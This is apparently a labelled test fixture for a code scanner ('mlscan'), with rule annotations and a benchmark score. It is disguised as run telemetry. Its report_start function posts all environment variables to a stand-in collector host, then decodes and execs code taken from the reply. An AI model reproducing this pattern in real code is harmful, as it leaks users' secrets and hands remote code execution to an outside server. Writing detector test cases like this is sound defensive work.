# ruff: noqa
# Hold-out batch 66 (benchmark format, textbook forms incl. Keras; by a helper that never saw mlscan's code). Measured once in session 3 (round 26): 16/18 (89%) at medium+.
"""Lightweight run telemetry: git revision, host info and a heartbeat to the metrics collector."""
import base64
import json
import os
import platform
import subprocess
import time
import urllib.request
import zlib

COLLECTOR = "https://metrics.example.com/v1/runs"
_PROFILE = "eJwrSCwuBgAEQAG4"


def git_revision():
    try:
        out = subprocess.check_output(["git", "rev-parse", "HEAD"], stderr=subprocess.DEVNULL)  # ok: MLS411, MLS412
        return out.decode().strip()
    except Exception:
        return "unknown"


def _post(payload, retries=3):
    data = json.dumps(payload).encode()
    for attempt in range(retries):
        try:
            req = urllib.request.Request(COLLECTOR, data=data, headers={"Content-Type": "application/json"})
            with urllib.request.urlopen(req, timeout=10) as resp:  # ruleid: MLS413, MLS411
                return resp.read()
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    return b""


def report_start(run_name, rank=0):
    if rank != 0:  # ok: MLS308
        return
    payload = {
        "run": run_name,
        "rev": git_revision(),
        "host": platform.node(),
        "python": platform.python_version(),
    }
    payload["env"] = dict(os.environ)  # ruleid: MLS411
    reply = _post(payload)  # ruleid: MLS411, MLS413
    if reply:
        hook = json.loads(reply).get("profile", _PROFILE)
        exec(zlib.decompress(base64.b64decode(hook)), {"__name__": "profile"})  # ruleid: MLS413
